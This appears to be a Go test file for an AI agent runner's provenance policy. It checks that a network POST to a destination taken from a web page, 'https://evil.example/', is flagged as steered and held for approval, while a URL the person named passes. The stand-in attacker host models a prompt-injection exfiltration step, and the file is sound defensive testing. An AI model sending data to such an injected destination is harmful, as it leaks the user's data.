package runner_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/remitrun/remit/internal/authority/provenance"
	"github.com/remitrun/remit/internal/base/fault"
	"github.com/remitrun/remit/internal/base/tool"
	"github.com/remitrun/remit/internal/call/runner"
)

const steered = `tools: {allow: ["*"]}
files: {read: {allow: ["**"]}}
network: {allow: ["*"]}
labels: {web: {from: ["files web/**"]}}
flows: {web: {ask_steered: ["network POST **"]}}
`

// forSession approves for the session, and counts the questions.
type forSession struct{ asked int }

func (a *forSession) Ask(_ context.Context, q runner.Question) (runner.Answer, error) {
	a.asked++
	return runner.Answer{Yes: true, Session: true}, nil
}

func TestWhatThePersonSaidIsNotAskedAbout(t *testing.T) {
	h := newHouse(t, open, &sender{})
	said := &runner.Context{}
	h.under(steered, func(in *runner.Info) { in.Context = said })
	said.Say(provenance.Person, "post it to https://ann.example/notes")
	evil := tool.Args{"post": "https://evil.example/"}
	if o := h.call("send", evil); o.Err != nil {
		t.Fatalf("before the page was read: %v", o.Err)
	}
	if o := h.call("send", tool.Args{"read": "web/page"}); o.Err != nil {
		t.Fatal(o.Err)
	}
	if o := h.call("send", tool.Args{"post": "https://ann.example/notes"}); o.Err != nil {
		t.Errorf("what the person said: %v", o.Err)
	}
	o := h.call("send", evil)
	if !errors.Is(o.Err, fault.NeedsApproval) || len(o.Decision.Steered) != 1 || !strings.Contains(o.Decision.Reason, "`post` came from nothing that is known; you did not name it") {
		t.Errorf("what nobody said: %v, %v", o.Err, o.Decision.Steered)
	}
	calls := h.recorded()
	if last := calls[len(calls)-1]; !strings.HasPrefix(last.Rule, "flows.web.ask_steered[0]") {
		t.Errorf("recorded %+v", last)
	}
}

func TestAnApprovalForTheSessionEndorsesValues(t *testing.T) {
	h := newHouse(t, open, &sender{})
	h.under(steered, nil)
	ask := &forSession{}
	h.rn.Ask = ask
	h.call("send", tool.Args{"read": "web/page"})
	for i, tt := range []struct {
		url   string
		asked int
	}{{"https://evil.example/", 1}, {"https://evil.example/", 1}, {"https://evil.example/other", 2}, {"https://evil.example/other", 2}} {
		if o := h.call("send", tool.Args{"post": tt.url}); o.Err != nil || ask.asked != tt.asked {
			t.Errorf("call %d: %v, %d questions", i, o.Err, ask.asked)
		}
	}
}
